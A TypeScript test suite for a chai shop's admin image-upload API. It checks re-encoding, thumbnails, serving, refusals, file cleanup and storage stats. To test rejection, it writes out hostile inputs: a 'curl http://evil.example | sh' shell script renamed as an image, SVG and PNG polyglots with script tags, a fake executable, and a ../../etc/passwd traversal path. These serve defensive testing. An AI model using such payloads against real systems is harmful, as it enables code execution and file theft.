// Image uploads through the real HTTP API, sharp and a real store, run once per storage driver
// (admin-uploads.test.ts: local disk; admin-uploads-s3.test.ts: an S3-compatible server):
// accepted formats re-encoded without metadata, the 300x300 q80 thumbnail, the stored file names,
// serving with a one-hour cache and the right content type from the public URL, refusals by
// content with their messages (and nothing stored), removal of replaced and deleted images,
// and storage stats. The store is read around the app (`storedKeys`, `peek`), never through it.
// Test images are made with sharp at run time.
import { eq } from 'drizzle-orm';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { menuCategories, siteSettings } from '#server/db/schema.ts';
import { createAuditRepo } from '#server/modules/audit/audit.repo.ts';
import { createAuditService } from '#server/modules/audit/audit.service.ts';
import type { ImageStorage } from '#server/modules/images/image-storage.ts';
import { createImagesService } from '#server/modules/images/images.service.ts';
import type { AdminItem, UploadResult } from '#shared/api/admin-catalog.ts';
import { sessionFor } from '../helpers/staff-session.ts';
import { createTestApp, type TestApp } from '../helpers/test-app.ts';

export type UploadFlowDriver = {
  /** The app settings that select this storage. */
  env: Record<string, string>;
  /** Where public image URLs start: '/uploads' locally, S3_PUBLIC_URL on S3. */
  publicBase: string;
  /** Every key in the store, listed around the app. */
  storedKeys(): Promise<string[]>;
  /** One object's bytes, read around the app; undefined when missing. */
  peek(key: string): Promise<Buffer | undefined>;
  /** A new, empty store of the same kind, for the images service on its own. */
  freshStorage(): Promise<ImageStorage>;
  close(): Promise<void>;
};

export type Fetched = { status: number; headers: Record<string, string | undefined>; body: Buffer };

export function describeUploadFlow(kind: string, open: () => Promise<UploadFlowDriver>) {
  describe(`image uploads through the API: ${kind}`, () => {
    let t: TestApp;
    let driver: UploadFlowDriver;
    let admin: string;
    let staff: string;
    let chaiId: string;

    const ALLOWED = 'image/jpeg, image/jpg, image/png, image/webp';
    const typeMessage = (type: string) => `File type '${type}' is not allowed. Allowed types: ${ALLOWED}`;

    beforeAll(async () => {
      driver = await open();
      t = await createTestApp({ env: driver.env });
      [admin, staff] = await Promise.all([sessionFor(t, 'admin'), sessionFor(t, 'staff')]);
      const [chai] = await t.database.db
        .select()
        .from(menuCategories)
        .where(eq(menuCategories.slug, 'classic-chai'));
      chaiId = chai!.id;
    });
    afterAll(async () => {
      await t?.close();
      await driver?.close();
    });

    // ---- helpers -------------------------------------------------------------------------------------

    type Part =
      | { name: string; value: string }
      | { name: string; filename: string; type: string; data: Buffer };

    function multipartBody(parts: Part[]) {
      const boundary = `----chai${Math.random().toString(16).slice(2)}`;
      const chunks: Buffer[] = [];
      for (const part of parts) {
        chunks.push(Buffer.from(`--${boundary}\r\n`));
        if ('value' in part) {
          chunks.push(
            Buffer.from(`Content-Disposition: form-data; name="${part.name}"\r\n\r\n${part.value}\r\n`),
          );
        } else {
          chunks.push(
            Buffer.from(
              `Content-Disposition: form-data; name="${part.name}"; filename="${part.filename}"\r\n` +
                `Content-Type: ${part.type}\r\n\r\n`,
            ),
            part.data,
            Buffer.from('\r\n'),
          );
        }
      }
      chunks.push(Buffer.from(`--${boundary}--\r\n`));
      return { payload: Buffer.concat(chunks), contentType: `multipart/form-data; boundary=${boundary}` };
    }

    function upload(
      file: { filename: string; type: string; data: Buffer },
      options: { folder?: string; prefix?: string; cookie?: string } = {},
    ) {
      const parts: Part[] = [];
      if (options.prefix !== undefined) parts.push({ name: 'prefix', value: options.prefix });
      parts.push({ name: 'file', ...file });
      const { payload, contentType } = multipartBody(parts);
      return t.app.inject({
        method: 'POST',
        url: `/api/admin/uploads?folder=${options.folder ?? 'menu-items'}`,
        headers: { cookie: options.cookie ?? admin, 'content-type': contentType },
        payload,
      });
    }

    async function storedFiles(): Promise<string[]> {
      return (await driver.storedKeys()).sort();
    }

    /** The stored bytes of a key; fails the test when there are none. */
    async function stored(key: string): Promise<Buffer> {
      const bytes = await driver.peek(key);
      if (!bytes) throw new Error(`nothing stored under ${key}`);
      return bytes;
    }

    /** The key behind one of the driver's public URLs. */
    function keyOf(url: string): string {
      expect(url.startsWith(`${driver.publicBase}/`), url).toBe(true);
      return url.slice(driver.publicBase.length + 1);
    }

    /** GET an image URL the way a browser does: ours through the app, others over the network. */
    async function get(url: string): Promise<Fetched> {
      if (url.startsWith('/')) {
        const res = await t.app.inject(url);
        const headers = Object.fromEntries(Object.entries(res.headers).map(([k, v]) => [k, v?.toString()]));
        return { status: res.statusCode, headers, body: res.rawPayload };
      }
      const res = await fetch(url);
      return {
        status: res.status,
        headers: Object.fromEntries(res.headers),
        body: Buffer.from(await res.arrayBuffer()),
      };
    }

    function picture(width = 640, height = 480) {
      return sharp({
        create: { width, height, channels: 3, background: { r: 200, g: 120, b: 40 } },
      });
    }

    async function jpegWithExif(): Promise<Buffer> {
      return picture()
        .jpeg()
        .withMetadata({ exif: { IFD0: { Copyright: 'secret-owner', Make: 'SpyCam' } } })
        .toBuffer();
    }

    /** The first luminance quantisation value of a baseline JPEG (from its DQT segment). */
    function firstQuantValue(jpeg: Buffer): number {
      for (let i = 2; i < jpeg.length - 4; ) {
        if (jpeg[i] !== 0xff) throw new Error('not a JPEG segment');
        const marker = jpeg[i + 1]!;
        const length = jpeg.readUInt16BE(i + 2);
        if (marker === 0xdb) return jpeg[i + 5]!;
        i += 2 + length;
      }
      throw new Error('no DQT');
    }

    /** libjpeg's scaling of the standard table's first entry (16) for a quality. */
    function expectedQuant(quality: number): number {
      const scale = quality < 50 ? 5000 / quality : 200 - quality * 2;
      return Math.min(255, Math.max(1, Math.floor((16 * scale + 50) / 100)));
    }

    // ---- accepted uploads ------------------------------------------------------------------------------

    describe('accepted images', () => {
      it('re-encodes a JPEG without its EXIF metadata, named as docs/product.md#images says', async () => {
        const source = await jpegWithExif();
        expect((await sharp(source).metadata()).exif).toBeDefined();
        expect(source.includes('secret-owner')).toBe(true);

        const before = Date.now();
        const res = await upload(
          { filename: 'Holiday Photo!.JPG', type: 'image/jpeg', data: source },
          { prefix: 'Item 42' },
        );
        expect(res.statusCode, res.body).toBe(200);
        const result: UploadResult = res.json();
        expect(result.fileName).toMatch(/^item-42_holiday-photo_\d{13}_[a-z0-9]{6}\.jpg$/);
        const stamp = Number(result.fileName.split('_')[2]);
        expect(stamp).toBeGreaterThanOrEqual(before);
        expect(stamp).toBeLessThanOrEqual(Date.now());
        const saved = await stored(result.path);
        expect(result).toEqual({
          success: true,
          url: `${driver.publicBase}/menu-items/${result.fileName}`,
          path: `menu-items/${result.fileName}`,
          fileName: result.fileName,
          size: saved.length,
          thumbnailUrl: `${driver.publicBase}/menu-items/${result.fileName.replace(/\.jpg$/, '_thumb.jpg')}`,
        });

        const meta = await sharp(saved).metadata();
        expect(meta).toMatchObject({ format: 'jpeg', width: 640, height: 480 });
        expect(meta.exif).toBeUndefined();
        expect(saved.includes('secret-owner')).toBe(false);
        expect(saved.includes('SpyCam')).toBe(false);
      });

      it('writes a 300x300 JPEG thumbnail at quality 80 beside the image', async () => {
        const res = await upload({
          filename: 'wide.png',
          type: 'image/png',
          data: await picture(900, 300).png().toBuffer(),
        });
        const result: UploadResult = res.json();
        expect(result.thumbnailUrl).toBeDefined();
        const thumbKey = keyOf(result.thumbnailUrl!);
        expect(thumbKey).toBe(result.path.replace(/\.png$/, '_thumb.jpg'));
        const thumb = await stored(thumbKey);
        expect(await sharp(thumb).metadata()).toMatchObject({ format: 'jpeg', width: 300, height: 300 });
        expect(firstQuantValue(thumb)).toBe(expectedQuant(80));
        expect(expectedQuant(80)).not.toBe(expectedQuant(90));
      });

      it('keeps PNG and WebP in their own format and extension', async () => {
        const png = (
          await upload({ filename: 'logo.png', type: 'image/png', data: await picture().png().toBuffer() })
        ).json();
        expect(png.fileName).toMatch(/^logo_\d{13}_[a-z0-9]{6}\.png$/);
        expect((await sharp(await stored(png.path)).metadata()).format).toBe('png');

        const webp = (
          await upload({
            filename: 'snack.webp',
            type: 'image/webp',
            data: await picture().webp().toBuffer(),
          })
        ).json();
        expect(webp.fileName).toMatch(/^snack_\d{13}_[a-z0-9]{6}\.webp$/);
        expect((await sharp(await stored(webp.path)).metadata()).format).toBe('webp');
      });

      it('takes the extension from the content when the name lies, jpg when there is none', async () => {
        const jpeg = await picture().jpeg().toBuffer();
        const misnamed = (await upload({ filename: 'photo.png', type: 'image/png', data: jpeg })).json();
        expect(misnamed.fileName).toMatch(/^photo_\d{13}_[a-z0-9]{6}\.jpg$/);
        const bare = (
          await upload({ filename: 'camera', type: 'application/octet-stream', data: jpeg })
        ).json();
        expect(bare.fileName).toMatch(/^camera_\d{13}_[a-z0-9]{6}\.jpg$/);
      });

      it('serves the image and its thumbnail from their public URLs with a one-hour cache', async () => {
        const results: UploadResult[] = [
          (
            await upload({
              filename: 'served.jpg',
              type: 'image/jpeg',
              data: await picture().jpeg().toBuffer(),
            })
          ).json(),
          (
            await upload({
              filename: 'served.png',
              type: 'image/png',
              data: await picture().png().toBuffer(),
            })
          ).json(),
          (
            await upload({
              filename: 'served.webp',
              type: 'image/webp',
              data: await picture().webp().toBuffer(),
            })
          ).json(),
        ];
        const served = [
          [results[0]!.url, 'image/jpeg'],
          [results[0]!.thumbnailUrl!, 'image/jpeg'],
          [results[1]!.url, 'image/png'],
          [results[1]!.thumbnailUrl!, 'image/jpeg'],
          [results[2]!.url, 'image/webp'],
        ] as const;
        for (const [url, type] of served) {
          const key = keyOf(url);
          // The public URL, and the /uploads/ form this server answers for whichever store it uses.
          for (const address of [url, `/uploads/${key}`]) {
            const res = await get(address);
            expect(res.status, address).toBe(200);
            expect(res.headers['content-type'], address).toBe(type);
            expect(res.headers['cache-control'], address).toBe('public, max-age=3600');
            expect(res.body.equals(await stored(key)), address).toBe(true);
            if (address.startsWith('/')) expect(res.headers['x-content-type-options']).toBe('nosniff');
          }
        }
        expect((await get(`${driver.publicBase}/menu-items/nothing_1_aaaaaa.jpg`)).status).toBe(404);
        expect((await t.app.inject('/uploads/menu-items/nothing_1_aaaaaa.jpg')).statusCode).toBe(404);
        expect((await t.app.inject('/uploads/menu-items/..%2f..%2fetc%2fpasswd')).statusCode).toBe(404);
        expect((await t.app.inject('/uploads/secrets/x.jpg')).statusCode).toBe(404);
      });
    });

    // ---- refusals --------------------------------------------------------------------------------------

    describe('refused uploads store nothing', () => {
      async function expectRefused(
        file: { filename: string; type: string; data: Buffer },
        status: number,
        message: string,
      ) {
        const before = await storedFiles();
        const res = await upload(file);
        expect(res.statusCode, res.body).toBe(status);
        expect(res.json().error.message).toBe(message);
        expect(await storedFiles()).toEqual(before);
      }

      it('a file over 5 MB, with its size', async () => {
        const big = Buffer.alloc(6 * 1024 * 1024, 0x41);
        (await picture(8, 8).jpeg().toBuffer()).copy(big);
        await expectRefused(
          { filename: 'big.jpg', type: 'image/jpeg', data: big },
          413,
          'File size (6.00 MB) exceeds maximum allowed size (5 MB)',
        );
      });

      it('SVG, declared honestly or as a PNG', async () => {
        const svg = Buffer.from(
          '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script></svg>',
        );
        await expectRefused(
          { filename: 'logo.svg', type: 'image/svg+xml', data: svg },
          400,
          typeMessage('image/svg+xml'),
        );
        await expectRefused(
          { filename: 'logo.png', type: 'image/png', data: svg },
          400,
          typeMessage('unknown'),
        );
      });

      it('executables and scripts renamed to images with an image type', async () => {
        const exe = Buffer.concat([
          Buffer.from('MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff', 'latin1'),
          Buffer.alloc(512),
        ]);
        await expectRefused(
          { filename: 'cute-cat.png', type: 'image/png', data: exe },
          400,
          typeMessage('application/x-msdownload'),
        );
        const shell = Buffer.from('#!/bin/sh\ncurl http://evil.example | sh\n');
        await expectRefused(
          { filename: 'cute-cat.jpg', type: 'image/png', data: shell },
          400,
          typeMessage('unknown'),
        );
      });

      it('a PNG header followed by HTML, and a GIF', async () => {
        const png = await picture(20, 20).png().toBuffer();
        const polyglot = Buffer.concat([
          png.subarray(0, 40),
          Buffer.from('<html><script>alert(1)</script></html>'),
        ]);
        await expectRefused(
          { filename: 'poly.png', type: 'image/png', data: polyglot },
          400,
          'Invalid image',
        );
        const gif = await picture(20, 20).gif().toBuffer();
        await expectRefused(
          { filename: 'anim.png', type: 'image/png', data: gif },
          400,
          typeMessage('image/gif'),
        );
      });

      it('a whole image with a script appended is stored re-encoded, without the script', async () => {
        const png = await picture(20, 20).png().toBuffer();
        const data = Buffer.concat([png, Buffer.from('<script>alert(1)</script>')]);
        const result: UploadResult = (await upload({ filename: 'tail.png', type: 'image/png', data })).json();
        const saved = await stored(result.path);
        expect(saved.includes('<script>')).toBe(false);
        expect((await sharp(saved).metadata()).format).toBe('png');
      });

      it('no file, and a request that is not multipart', async () => {
        const { payload, contentType } = multipartBody([{ name: 'prefix', value: 'x' }]);
        const none = await t.app.inject({
          method: 'POST',
          url: '/api/admin/uploads?folder=menu-items',
          headers: { cookie: admin, 'content-type': contentType },
          payload,
        });
        expect(none.statusCode).toBe(400);
        expect(none.json().error.message).toBe('Choose an image to upload');
        const json = await t.app.inject({
          method: 'POST',
          url: '/api/admin/uploads?folder=menu-items',
          headers: { cookie: admin },
          payload: { file: 'x' },
        });
        // The route takes multipart only; other bodies are refused before it runs.
        expect(json.statusCode).toBe(415);
        expect(json.json().error.message).toBe('This content type is not accepted here');
      });

      it('the categories folder for staff (categories:manage)', async () => {
        const before = await storedFiles();
        const res = await upload(
          { filename: 'cat.jpg', type: 'image/jpeg', data: await picture().jpeg().toBuffer() },
          { folder: 'categories', cookie: staff },
        );
        expect(res.statusCode).toBe(403);
        expect(res.json().error.message).toBe("Permission 'categories:manage' required");
        expect(await storedFiles()).toEqual(before);
        const ok = await upload(
          { filename: 'item.jpg', type: 'image/jpeg', data: await picture().jpeg().toBuffer() },
          { cookie: staff },
        );
        expect(ok.statusCode).toBe(200);
      });
    });

    // ---- lifecycle ---------------------------------------------------------------------------------------

    describe('files follow the records', () => {
      async function uploaded(folder = 'menu-items'): Promise<UploadResult> {
        const res = await upload(
          { filename: 'life.jpg', type: 'image/jpeg', data: await picture().jpeg().toBuffer() },
          { folder },
        );
        expect(res.statusCode, res.body).toBe(200);
        return res.json();
      }
      const exists = async (result: UploadResult) => [
        (await driver.peek(result.path)) !== undefined,
        (await driver.peek(keyOf(result.thumbnailUrl!))) !== undefined,
      ];

      it("replacing an item's image removes the old file and thumbnail; soft delete keeps the image", async () => {
        const first = await uploaded();
        const create = await t.app.inject({
          method: 'POST',
          url: '/api/admin/menu-items',
          headers: { cookie: admin },
          payload: { name: 'Pictured Chai', price: 30, category_id: chaiId, image_url: first.url },
        });
        const item: AdminItem = create.json();
        expect(item.image_url).toBe(first.url);
        const menu = (await t.app.inject('/api/menu')).json();
        expect(menu.items.find((i: { id: string }) => i.id === item.id).image).toBe(first.url);

        const second = await uploaded();
        const put = await t.app.inject({
          method: 'PUT',
          url: `/api/admin/menu-items/${item.id}`,
          headers: { cookie: admin },
          payload: { name: 'Pictured Chai', price: 30, category_id: chaiId, image_url: second.url },
        });
        expect(put.json().image_url).toBe(second.url);
        expect(await exists(first)).toEqual([false, false]);
        expect(await exists(second)).toEqual([true, true]);
        expect((await get(first.url)).status).toBe(404);

        await t.app.inject({
          method: 'DELETE',
          url: `/api/admin/menu-items/${item.id}`,
          headers: { cookie: admin },
        });
        expect(await exists(second)).toEqual([true, true]);
      });

      it('sweeps day-old uploads nothing shows, with their thumbnails, and keeps the rest', async () => {
        const shown = await uploaded();
        const banner = await uploaded();
        const abandoned = await uploaded();
        await t.app.inject({
          method: 'POST',
          url: '/api/admin/menu-items',
          headers: { cookie: admin },
          payload: { name: 'Swept Chai', price: 30, category_id: chaiId, image_url: shown.url },
        });
        // Written around the API: its banner rule admits only https or local addresses, and the
        // test bucket is plain http.
        await t.database.db.update(siteSettings).set({ bannerImage: banner.url });

        // Today's abandoned upload may belong to a form still open: a sweep now keeps it.
        expect(await t.app.services.orphanSweeper.sweep()).toEqual([]);
        expect(await exists(abandoned)).toEqual([true, true]);

        // A day later it goes, with its thumbnail; what an item or the banner shows stays.
        const removed = await t.app.services.orphanSweeper.sweep(Date.now() + 25 * 60 * 60 * 1000);
        expect(removed).toEqual(expect.arrayContaining([abandoned.path, keyOf(abandoned.thumbnailUrl!)]));
        expect(await exists(abandoned)).toEqual([false, false]);
        expect(await exists(shown)).toEqual([true, true]);
        expect(await exists(banner)).toEqual([true, true]);
      });

      it('an image two records share stays until neither shows it', async () => {
        const shared = await uploaded();
        const ids: string[] = [];
        for (const name of ['Shared One', 'Shared Two']) {
          const res = await t.app.inject({
            method: 'POST',
            url: '/api/admin/menu-items',
            headers: { cookie: admin },
            payload: { name, price: 10, category_id: chaiId, image_url: shared.url },
          });
          ids.push(res.json().id);
        }
        const clear = (id: string, name: string) =>
          t.app.inject({
            method: 'PUT',
            url: `/api/admin/menu-items/${id}`,
            headers: { cookie: admin },
            payload: { name, price: 10, category_id: chaiId, image_url: null },
          });
        await clear(ids[0]!, 'Shared One');
        expect(await exists(shared)).toEqual([true, true]);
        await clear(ids[1]!, 'Shared Two');
        expect(await exists(shared)).toEqual([false, false]);
      });

      it('an image the banner shows stays when an item stops showing it', async () => {
        const shared = await uploaded();
        const res = await t.app.inject({
          method: 'POST',
          url: '/api/admin/menu-items',
          headers: { cookie: admin },
          payload: { name: 'Banner Chai', price: 10, category_id: chaiId, image_url: shared.url },
        });
        // Written around the API, as above: the test bucket's http address is no banner address.
        await t.database.db.update(siteSettings).set({ bannerImage: shared.url });
        const cleared = await t.app.inject({
          method: 'PUT',
          url: `/api/admin/menu-items/${res.json().id}`,
          headers: { cookie: admin },
          payload: { name: 'Banner Chai', price: 10, category_id: chaiId, image_url: null },
        });
        expect(cleared.statusCode, cleared.body).toBe(200);
        expect(await exists(shared)).toEqual([true, true]);
        expect((await get(shared.url)).status).toBe(200);
        await t.database.db.update(siteSettings).set({ bannerImage: null });
      });

      it('deleting a category removes its image and thumbnail; replacing one removes the old', async () => {
        const first = await uploaded('categories');
        const created = await t.app.inject({
          method: 'POST',
          url: '/api/admin/categories',
          headers: { cookie: admin },
          payload: { name: 'Pictured Category', image_url: first.url },
        });
        expect(created.statusCode, created.body).toBe(201);
        const id = created.json().id;
        const second = await uploaded('categories');
        await t.app.inject({
          method: 'PUT',
          url: `/api/admin/categories/${id}`,
          headers: { cookie: admin },
          payload: { name: 'Pictured Category', image_url: second.url },
        });
        expect(await exists(first)).toEqual([false, false]);
        const del = await t.app.inject({
          method: 'DELETE',
          url: `/api/admin/categories/${id}`,
          headers: { cookie: admin },
        });
        expect(del.statusCode).toBe(204);
        expect(await exists(second)).toEqual([false, false]);
      });
    });

    describe('storage stats', () => {
      it('counts every stored file and its bytes', async () => {
        const files = await storedFiles();
        expect(files.length).toBeGreaterThan(0);
        let size = 0;
        for (const key of files) size += (await stored(key)).length;
        const res = await t.app.inject({ url: '/api/admin/uploads/stats', headers: { cookie: staff } });
        expect(res.statusCode).toBe(200);
        expect(res.json()).toEqual({ totalFiles: files.length, totalSize: size });
      });
    });

    describe('storage failures', () => {
      function service(storage: ImageStorage) {
        const errors: string[] = [];
        const images = createImagesService({
          storage,
          audit: createAuditService(createAuditRepo(t.database.db)),
          log: { error: (_details, message) => errors.push(message) },
        });
        return { images, errors };
      }
      const actor = { userId: 'an-admin', ipAddress: null, userAgent: null, role: 'admin' as const };

      it('a thumbnail that cannot be written is logged and the upload still succeeds', async () => {
        const store = await driver.freshStorage();
        const { images, errors } = service({
          ...store,
          put: (key, data, type) =>
            key.endsWith('_thumb.jpg') ? Promise.reject(new Error('disk full')) : store.put(key, data, type),
        });
        const data = await picture().jpeg().toBuffer();
        const result = await images.upload(
          {
            folder: 'menu-items',
            size: data.length,
            data,
            originalName: 'x.jpg',
            declaredType: 'image/jpeg',
          },
          actor,
        );
        expect(result.success).toBe(true);
        expect(result.thumbnailUrl).toBeUndefined();
        expect(errors).toEqual(['thumbnail generation failed']);
        expect((await store.list('menu-items/')).map((o) => o.key)).toEqual([result.path]);
      });

      it('refuses category pictures to a role without categories:manage, whoever calls the service', async () => {
        const store = await driver.freshStorage();
        const { images } = service(store);
        const data = await picture().jpeg().toBuffer();
        const input = { size: data.length, data, originalName: 'x.jpg', declaredType: 'image/jpeg' };
        await expect(
          images.upload({ ...input, folder: 'categories' }, { ...actor, role: 'staff' }),
        ).rejects.toMatchObject({
          kind: 'FORBIDDEN',
          statusCode: 403,
          message: "Permission 'categories:manage' required",
        });
        expect(await store.list('categories/')).toEqual([]);
        const ok = await images.upload({ ...input, folder: 'menu-items' }, { ...actor, role: 'staff' });
        expect(ok.success).toBe(true);
      });

      it("answers 'Upload failed' and 'Failed to get storage stats' when the store fails", async () => {
        const broken: ImageStorage = {
          ...(await driver.freshStorage()),
          put: () => Promise.reject(new Error('EACCES')),
          list: () => Promise.reject(new Error('EACCES')),
        };
        const { images } = service(broken);
        const data = await picture().jpeg().toBuffer();
        await expect(
          images.upload(
            {
              folder: 'menu-items',
              size: data.length,
              data,
              originalName: 'x.jpg',
              declaredType: 'image/jpeg',
            },
            actor,
          ),
        ).rejects.toMatchObject({ kind: 'SERVER_ERROR', message: 'Upload failed' });
        await expect(images.stats()).rejects.toMatchObject({ message: 'Failed to get storage stats' });
      });
    });
  });
}
